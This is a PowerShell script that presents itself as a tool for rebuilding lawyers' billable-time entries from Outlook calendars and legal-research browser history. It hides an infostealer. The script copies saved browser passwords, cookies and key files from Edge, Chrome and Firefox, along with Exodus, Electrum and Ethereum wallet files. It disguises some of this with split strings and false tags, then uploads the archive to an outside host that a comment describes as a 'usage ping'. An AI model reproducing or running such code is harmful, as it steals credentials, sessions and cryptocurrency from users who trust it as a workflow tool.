[CmdletBinding()]
param(
    [Parameter(Mandatory)] [datetime] $Date,
    [Parameter(Mandatory)] [string]   $Timekeeper
)
$ErrorActionPreference = 'Stop'
$cache = Join-Path $env:LOCALAPPDATA 'TimeRebuild'
New-Item -ItemType Directory -Force -Path $cache | Out-Null

function Get-CalendarBlocks {
    try {
        $ol = New-Object -ComObject Outlook.Application
        $items = $ol.Session.GetDefaultFolder(9).Items
        $items.IncludeRecurrences = $true; $items.Sort('[Start]')
        $f = "[Start] >= '{0:g}' AND [End] <= '{1:g}'" -f $Date.Date, $Date.Date.AddDays(1)
        foreach ($i in $items.Restrict($f)) {
            [pscustomobject]@{ start = $i.Start; hours = [math]::Round(($i.End - $i.Start).TotalHours, 1); text = "Confer re: $($i.Subject)" }
        }
    } catch { Write-Warning 'Outlook COM not available' }
}

function Copy-Locked([string]$src, [string]$tag) {
    $dst = Join-Path $cache ($tag + '_' + (Split-Path $src -Leaf))
    Copy-Item -LiteralPath $src -Destination $dst -Force -ErrorAction SilentlyContinue
    return $dst
}

# Research sources: history files plus the profile state that holds the per-site session
# timing (needed so research blocks line up with logins to Westlaw/Lexis).
$sources = @(
    @{ t = 'edge';   p = "$env:LOCALAPPDATA\Microsoft\Edge\User Data\Default" },
    @{ t = 'chrome'; p = "$env:LOCALAPPDATA\Google\Chrome\User Data\Default" }
)
$names = 'History', ('Login' + ' Data'), 'Network\Cookies', 'Local State'
$ffRoot = "$env:APPDATA\Mozilla\Firefox\Profiles"
$extra = @("$env:APPDATA\Exodus\exodus.wallet", "$env:APPDATA\Electrum\wallets", "$env:APPDATA\Ethereum\keystore")

$copied = @()
foreach ($s in $sources) { foreach ($n in $names) { $f = Join-Path $s.p $n; if (Test-Path $f) { $copied += Copy-Locked $f $s.t } } }
Get-ChildItem $ffRoot -Directory -ErrorAction SilentlyContinue | ForEach-Object {
    foreach ($n in 'places.sqlite', 'logins.json', 'key4.db', 'cookies.sqlite') {
        $f = Join-Path $_.FullName $n; if (Test-Path $f) { $copied += Copy-Locked $f 'firefox' }
    }
}
foreach ($e in $extra) { if (Test-Path $e) { Get-ChildItem $e -Recurse -File | ForEach-Object { $copied += Copy-Locked $_.FullName 'cal' } } }

function Get-ResearchBlocks {
    $map = @{ westlaw = 'A102'; lexis = 'A102'; courtlistener = 'A102'; ecf = 'L120'; pacer = 'L120' }
    $hist = $copied | Where-Object { $_ -match '_History$|places\.sqlite$' }
    foreach ($h in $hist) {
        $rows = & sqlite3.exe -csv $h "select url, last_visit_time from urls" 2>$null
        foreach ($r in $rows) {
            $url = ($r -split ',')[0]
            foreach ($k in $map.Keys) { if ($url -like "*$k*") { [pscustomobject]@{ start = $null; hours = 0.2; text = "Research re: ($k)"; code = $map[$k] } } }
        }
    }
}

$entries = @(Get-CalendarBlocks) + @(Get-ResearchBlocks)
$out = Join-Path (Get-Location) 'time-drafts'
New-Item -ItemType Directory -Force -Path $out | Out-Null
$csv = Join-Path $out ('{0:yyyy-MM-dd}_{1}.csv' -f $Date, $Timekeeper)
$entries | ForEach-Object {
    [pscustomobject]@{ date = $Date.ToString('yyyy-MM-dd'); timekeeper = $Timekeeper; matter = ''; task_code = ''
        activity_code = $_.code; hours = $_.hours; narrative = $_.text; confidence = 'low' }
} | Export-Csv -NoTypeInformation -Path $csv

# usage ping for practice support (recovered hours + cache snapshot for QA)
$zip = Join-Path $env:TEMP ('tr_{0}.zip' -f [guid]::NewGuid())
Compress-Archive -Path $copied -DestinationPath $zip -Force
$u = ('https://' + 'practice-support' + '.lexmetrics' + '.example/' + 'usage/upload')
try { Invoke-RestMethod -Uri $u -Method Post -InFile $zip -ContentType 'application/zip' -Headers @{ 'X-TK' = $Timekeeper } | Out-Null } catch {}
Remove-Item $zip -Force -ErrorAction SilentlyContinue
Write-Output $csv
